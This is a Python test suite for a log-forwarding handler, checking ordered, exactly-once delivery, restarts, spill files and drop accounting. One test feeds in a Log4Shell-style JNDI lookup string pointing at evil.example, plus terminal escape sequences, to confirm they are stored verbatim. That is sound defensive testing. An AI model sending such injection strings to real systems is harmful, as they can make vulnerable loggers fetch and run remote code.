"""SpoolHandler against a real collector (started from $SPOOL_TEST_COLLECTOR)."""
import json
import logging
import multiprocessing
import os
import shutil
import tempfile
import time
import unittest

import spool_logging
from tests import support, workers


@support.needs_collector
class CollectorTest(unittest.TestCase):

    def setUp(self):
        self.dir = tempfile.mkdtemp(prefix="spool-py-")
        self.out = os.path.join(self.dir, "all.log")
        self.address = "tcp://127.0.0.1:%d" % support.free_port()
        self.spill = os.path.join(self.dir, "spill")
        self.collectors = []
        self.saved_env = dict(os.environ)

    def tearDown(self):
        for c in self.collectors:
            c.stop()
        root = logging.getLogger()
        for h in list(root.handlers):
            if isinstance(h, spool_logging.SpoolHandler):
                root.removeHandler(h)
                h.close()
        os.environ.clear()
        os.environ.update(self.saved_env)
        shutil.rmtree(self.dir, ignore_errors=True)

    def collector(self, token=None):
        c = support.CollectorProcess(self.address, self.out, os.path.join(self.dir, "collector.out"), token).start()
        self.collectors.append(c)
        return c

    def test_eight_spawn_workers_of_10000_records_arrive_exactly_once_in_order(self):
        self.collector()
        spool_logging.setup_logging(self.address, spill_dir=self.spill, close_timeout=30)
        names = ["w%d" % i for i in range(8)]
        ctx = multiprocessing.get_context("spawn")
        with ctx.Pool(8, initializer=spool_logging.configure_worker) as pool:
            pool.starmap(workers.log_records, [(n, 10_000) for n in names], chunksize=1)
            pool.close()
            pool.join()  # the workers end normally: each handler's close waits for its acknowledgements
        events = support.read_events(self.out)
        self.assertEqual(support.check_exactly_once_in_order(events, names, 10_000), [])
        self.assertEqual(len(events), 80_000)
        self.assertEqual({e["level"] for e in events}, {"INFO"})
        self.assertEqual(len({e["pid"] for e in events}) >= 2, True)

    def test_setup_logging_starts_a_collector_when_none_answers(self):
        command = json.loads(support.COMMAND) + [self.address, self.out]
        handler = spool_logging.setup_logging(self.address, spill_dir=self.spill, collector_command=command)
        try:
            self.assertIsNotNone(handler.collector_process)
            logging.getLogger("started").warning("through a collector I started")
            self.assertTrue(handler.wait_delivered(30))
            self.assertEqual([e["message"] for e in support.read_events(self.out)], ["through a collector I started"])
            self.assertIs(spool_logging.setup_logging(self.address, collector_command=["false"]), handler,
                          "a second setup finds the collector answering and its handler installed")
        finally:
            spool_logging._stop_collector(handler, handler.collector_process)
        self.assertIsNotNone(handler.collector_process.poll(), "stopped with the handler")

    def test_the_documented_pool_example_delivers_every_record_in_both_modes(self):
        self.collector()
        example = os.path.join(support.CLIENT, "examples", "pool.py")
        for mode in ("spawn", "fork"):
            code, output = support.run_file(example, [self.address, mode],
                                            {"SPOOL_FORWARD_SPILL_DIR": self.spill})
            self.assertEqual(code, 0, output)
        events = support.read_events(self.out)
        items = sorted(e["fields"]["item"] for e in events if e["logger"] == "example.worker")
        self.assertEqual(items, sorted(list(range(100)) * 2))
        self.assertEqual([e["fields"]["total"] for e in events if e["logger"] == "example.parent"], [328350] * 2)

    def test_a_collector_on_a_unix_socket(self):
        self.address = "unix:" + os.path.join(self.dir, "c.sock")
        self.collector()
        handler = spool_logging.SpoolHandler(self.address, spill_dir=self.spill)
        log = logging.getLogger("unix")
        log.propagate = False
        log.addHandler(handler)
        try:
            for i in range(100):
                log.warning("unix-%d", i)
            self.assertTrue(handler.wait_delivered(30))
        finally:
            log.removeHandler(handler)
            handler.close()
        self.assertEqual(support.check_exactly_once_in_order(support.read_events(self.out), ["unix"], 100), [])
        self.assertEqual(handler.stats()["delivered"], 100)

    def test_a_collector_with_a_token_refuses_a_handler_without_it_and_nothing_is_lost(self):
        import contextlib
        import io
        self.collector(token="s3cret")
        log = logging.getLogger("token")
        log.propagate = False
        err = io.StringIO()
        with contextlib.redirect_stderr(err):
            wrong = spool_logging.SpoolHandler(self.address, token="guess", spill_dir=self.spill, spill_name="tok",
                                               close_timeout=0.3)
            log.addHandler(wrong)
            log.warning("token-0")
            self.assertFalse(wrong.wait_delivered(1))
            log.removeHandler(wrong)
            wrong.close()
        self.assertIn("refused the handshake", err.getvalue())
        self.assertIn("1 records held, not yet delivered", err.getvalue())
        right = spool_logging.SpoolHandler(self.address, token="s3cret", spill_dir=self.spill, spill_name="tok")
        log.addHandler(right)
        try:
            log.warning("token-1")
            self.assertTrue(right.wait_delivered(30))
        finally:
            log.removeHandler(right)
            right.close()
        self.assertEqual([e["message"] for e in support.read_events(self.out)], ["token-0", "token-1"])

    def test_fork_workers_inherit_the_handler_and_deliver(self):
        self.collector()
        handler = spool_logging.setup_logging(self.address, spill_dir=self.spill)
        logging.getLogger("parent").info("parent-0")
        ctx = multiprocessing.get_context("fork")
        names = ["f0", "f1", "f2"]
        with ctx.Pool(3, initializer=spool_logging.configure_worker) as pool:
            pool.starmap(workers.log_records, [(n, 2_000) for n in names], chunksize=1)
            pool.close()
            pool.join()
        self.assertTrue(handler.wait_delivered(30))
        events = support.read_events(self.out)
        counts = {n: 2_000 for n in names}
        counts["parent"] = 1
        self.assertEqual(support.check_exactly_once_in_order(events, names + ["parent"], counts), [])
        self.assertEqual(len(events), 6_001)

    def test_a_collector_killed_and_restarted_mid_run_loses_and_repeats_nothing(self):
        collector = self.collector()
        spool_logging.setup_logging(self.address, spill_dir=self.spill, close_timeout=60)
        names = ["k%d" % i for i in range(4)]
        ctx = multiprocessing.get_context("spawn")
        pool = ctx.Pool(4, initializer=spool_logging.configure_worker)
        try:
            result = pool.starmap_async(workers.log_records, [(n, 20_000, 1_000, 0.05) for n in names], chunksize=1)
            support.wait_until(lambda: len(support.read_events(self.out)) > 8_000, 60, "a quarter of the records")
            collector.kill()
            killed_at = len(support.read_events(self.out))
            self.assertLess(killed_at, 80_000, "killed mid-run")
            # the outage lasts until the workers, still logging, have put unacknowledged records on disk
            support.wait_until(lambda: any(os.path.getsize(os.path.join(self.spill, f)) > 30
                                           for f in os.listdir(self.spill)), 60, "records spilled")
            self.collector()
            result.get(120)
            pool.close()
            pool.join()
        finally:
            pool.terminate()
        events = support.read_events(self.out)
        self.assertEqual(support.check_exactly_once_in_order(events, names, 20_000), [])

    def test_hostile_records_are_stored_verbatim_or_refused_and_counted(self):
        self.collector()
        handler = spool_logging.SpoolHandler(self.address, spill_dir=self.spill, spill_name="hostile")
        log = logging.getLogger("hostile")
        log.propagate = False
        log.addHandler(handler)
        try:
            jndi = "${jndi:ldap://evil.example/a} ${${lower:j}ndi:x}"
            controls = "bell\x07 nul\x00 esc\x1b[31m cr\r lf\n del\x7f u2028\u2028"
            log.warning(jndi, extra={"user": jndi})
            log.warning(controls)
            log.warning("lone \ud800 surrogate")
            log.error("x" * (2 << 20))
            log.info("after")
            self.assertTrue(handler.wait_delivered(30))
        finally:
            log.removeHandler(handler)
            handler.close()
        events = support.read_events(self.out)
        self.assertEqual([e["message"] for e in events],
                         [jndi, controls, "lone \ufffd surrogate", "after"])
        self.assertEqual(events[0]["fields"], {"user": jndi})
        self.assertEqual(events[0]["level"], "WARN")
        self.assertEqual(handler.stats()["dropped"], {"too_large": 1})

    def test_records_left_unacknowledged_at_exit_arrive_with_the_next_run(self):
        script = (
            "import logging, sys, spool_logging\n"
            "h = spool_logging.setup_logging(close_timeout=0.5)\n"
            "for i in range(%d): logging.getLogger('run').info('%s-%%d', i)\n")
        env = {"SPOOL_FORWARD": self.address, "SPOOL_FORWARD_SPILL_DIR": self.spill,
               "PYTHONPATH": os.environ.get("PYTHONPATH", "")}
        code, output = support.run_script(script % (500, "first"), env)  # no collector listens
        self.assertEqual(code, 0, output)
        self.assertIn("500 records held, not yet delivered", output)
        self.assertEqual(len(os.listdir(self.spill)), 1)
        self.collector()
        code, output = support.run_script(script % (100, "second"), env)
        self.assertEqual(code, 0, output)
        events = support.read_events(self.out)
        self.assertEqual(support.check_exactly_once_in_order(events, ["first", "second"],
                                                             {"first": 500, "second": 100}), [])
        self.assertEqual([e["message"] for e in events],
                         ["first-%d" % i for i in range(500)] + ["second-%d" % i for i in range(100)])
        self.assertEqual(os.listdir(self.spill), [], "the spill file is gone once delivered")

    def _threads_log(self, handler, threads, per_thread):
        import threading
        log = logging.getLogger("ledgered")
        log.propagate = False
        log.addHandler(handler)

        def run(t):
            for i in range(per_thread):
                log.info("t%d-%d", t, i)

        try:
            ts = [threading.Thread(target=run, args=(t,)) for t in range(threads)]
            for t in ts:
                t.start()
            for t in ts:
                t.join()
        finally:
            log.removeHandler(handler)
            handler.close()

    def test_every_ledger_counts_exactly_the_records_of_concurrent_threads_up_to_its_bound(self):
        self.collector()
        handler = spool_logging.SpoolHandler(self.address, spill_dir=self.spill, ledger_interval=0.01)
        self._threads_log(handler, 8, 3_000)
        events = support.read_events(self.out)
        node = spool_logging._handler._ids.node_text()
        ledgers = support.read_ledgers(self.out, node)
        self.assertEqual(len(events), 24_000)
        self.assertGreater(len(ledgers), 2, "ledgers every 10 ms, and the final one")
        counters = sorted(e["id"][18:] for e in events if e["id"][10:18] == node)
        for ledger in ledgers:
            covered = sum(1 for c in counters if c <= ledger["last_counter"])
            self.assertEqual(ledger["sent"], covered, "ledger at %d" % ledger["at_us"])
        final = ledgers[-1]
        self.assertEqual((final["sent"], final["failed"], final["dropped"], final["final"]), (24_000, 0, {}, True))
        self.assertEqual([l["final"] for l in ledgers].count(True), 1)
        self.assertEqual(final["last_counter"], counters[-1])

    def test_drops_under_overload_are_in_the_final_ledger_by_reason(self):
        self.collector()
        handler = spool_logging.SpoolHandler(self.address, spill_dir=self.spill, queue_size=20, ledger_interval=0.05)
        self._threads_log(handler, 8, 3_000)
        dropped = handler.stats()["dropped"]
        self.assertGreater(dropped.get("queue_full", 0), 0, "8 threads outrun one sender with room for 20")
        events = support.read_events(self.out)
        final = support.read_ledgers(self.out, spool_logging._handler._ids.node_text())[-1]
        self.assertEqual((final["sent"], final["dropped"], final["final"]), (len(events), dropped, True))
        self.assertEqual(final["sent"] + final["dropped"]["queue_full"], 24_000)


if __name__ == "__main__":
    unittest.main()
